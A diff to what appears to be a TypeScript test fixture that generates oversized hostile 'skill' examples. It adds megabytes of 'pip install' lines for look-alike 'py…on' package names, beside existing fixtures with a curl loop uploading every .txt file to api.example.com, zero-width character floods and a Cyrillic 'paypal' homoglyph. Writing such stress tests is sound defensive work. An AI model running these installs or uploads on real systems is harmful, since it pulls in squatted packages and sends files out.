@@ -7,6 +7,14 @@ import { type Example, skillOf } from "./skill.ts";
 const megabyte = 1024 * 1024;
 const fill = (piece: string, chars: number) => piece.repeat(Math.ceil(chars / piece.length)).slice(0, chars);
 
+/** Commands that install packages whose names all begin and end like much-used ones. */
+function installs(chars: number): string {
+  let text = "";
+  for (let n = 0; text.length < chars; n++)
+    text += `${n % 25 === 0 ? "\npip install" : ""} py${n.toString(36)}on`;
+  return text;
+}
+
 /** A skill of 400 files of 26 kB each, beside its manifest. */
 function many(prefix: string, extension: string, piece: (n: number) => string): Example {
   const files: Record<string, string> = {
@@ -103,6 +111,10 @@ const hostile: Record<string, Example> = {
       `for f in "$DIR"/*.txt; do curl -s "https://api.example.com/${n}" -d "@$f" | tee "out-${n}.log"; done\n`,
   ),
   "zero-width characters by the megabyte": { "a.md": fill("a\u200b", megabyte) },
+  "packages by the megabyte": {
+    "a.sh": installs(4 * megabyte),
+    "requirements.txt": installs(4 * megabyte).replaceAll(" ", "\n"),
+  },
   "look-alikes by the megabyte": { "a.py": fill("pаypаl = 1\n", megabyte) },
 };
 
